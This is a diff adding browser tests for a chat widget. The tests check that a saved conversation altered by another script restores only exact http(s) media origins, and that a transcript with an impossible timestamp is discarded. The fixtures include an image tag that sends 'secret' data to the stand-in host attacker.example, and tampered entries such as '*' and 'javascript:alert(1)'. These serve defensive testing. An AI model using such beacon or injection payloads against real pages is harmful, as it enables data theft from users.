@@ -1,7 +1,7 @@
 import { aTimeout, expect, fixture, html, waitUntil } from '@open-wc/testing';
 import '../define.js';
 import type { IndigoChat } from '../components/indigo-chat/indigo-chat.js';
-import { $, botMessages, useFakeRelays, userMessages, welcomeChunks } from '../components/indigo-chat/fake-relay.test-helper.js';
+import { $, $$, botMessages, useFakeRelays, userMessages, welcomeChunks } from '../components/indigo-chat/fake-relay.test-helper.js';
 import { lazyTesting } from '../components/blocks/lazy-part.js';
 import { launch, type WidgetModule } from '../loader/launch.js';
 import { storageKey } from './storage.js';
@@ -228,5 +228,76 @@ describe('persistence with its code loaded on demand', () => {
       localStorage.removeItem(storageKey('/loader-probe', 'saved'));
       plain.remove();
     }
+  });
+});
+
+/** Opens a chat, waits for its first answer, leaves the page; returns the saved key. */
+async function savedFirstAnswer(r: ReturnType<typeof relays.relay>, id: string): Promise<string> {
+  const first = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id}></indigo-chat>`);
+  $<HTMLButtonElement>(first, '[part~="launcher"]')!.click();
+  await waitUntil(() => botMessages(first).length === 1 && first.conversation.transcript.status === 'idle', 'answer');
+  first.remove();
+  const key = storageKey(r.path, id);
+  await waitUntil(() => localStorage.getItem(key) !== null, 'saved');
+  return key;
+}
+
+/** Another script on the page edits the saved value. */
+function editSaved(key: string, edit: (saved: Record<string, unknown>) => void): void {
+  const saved = JSON.parse(localStorage.getItem(key)!) as Record<string, unknown>;
+  edit(saved);
+  localStorage.setItem(key, JSON.stringify(saved));
+}
+
+describe('a saved conversation edited by another script', () => {
+  it('restores only exact http(s) media origins: `*` or a URL with a path in storage lets no image load on render', async () => {
+    const r = relays.relay().queue([
+      { type: 'processing.start' },
+      {
+        type: 'text',
+        data: {
+          text: '<p><img src="https://attacker.example/p.gif?d=secret" alt="leak"> <img src="https://allowed.example/ok.png" alt="ok"></p>',
+        },
+      },
+      { type: 'processing.end' },
+    ]);
+    const id = `tampered-${++n}`;
+    editSaved(await savedFirstAnswer(r, id), (saved) => {
+      saved['media'] = [
+        '*',
+        'https://attacker.example/any/path',
+        ' https://attacker.example',
+        'javascript:alert(1)',
+        'https://allowed.example',
+      ];
+    });
+
+    const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id} mode="inline"></indigo-chat>`);
+    await waitUntil(() => botMessages(el).length === 1, 'restored');
+    await el.updateComplete;
+    expect(el.conversation.mediaOrigins).to.deep.equal(['https://allowed.example']);
+    const images = botMessages(el)[0]!.querySelectorAll('img');
+    expect([...images].map((i) => i.getAttribute('src'))).to.deep.equal(['https://allowed.example/ok.png']);
+    expect($$(el, '[part~="blocked-media"]').map((p) => p.textContent.trim())).to.deep.equal(['Show image “leak” from attacker.example']);
+    el.remove();
+  });
+});
+
+describe('a saved transcript with an impossible time', () => {
+  it('is discarded like any transcript that does not validate: the element renders and starts afresh', async () => {
+    const r = relays.relay().queue(welcomeChunks('First'), welcomeChunks('Fresh start'));
+    const id = `bad-time-${++n}`;
+    editSaved(await savedFirstAnswer(r, id), (saved) => {
+      const transcript = JSON.parse(saved['transcript'] as string) as { messages: { at: number }[] };
+      // Finite, so it passed for a time, but past what a Date can hold: toISOString() throws.
+      transcript.messages[0]!.at = 1e300;
+      saved['transcript'] = JSON.stringify(transcript);
+    });
+
+    const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id} mode="inline"></indigo-chat>`);
+    el.scrollIntoView();
+    await waitUntil(() => botMessages(el).some((m) => m.textContent.includes('Fresh start')), 'a fresh conversation');
+    expect(el.conversation.transcript.messages.every((m) => Math.abs(m.at) <= 8.64e15)).to.equal(true);
+    el.remove();
   });
 });
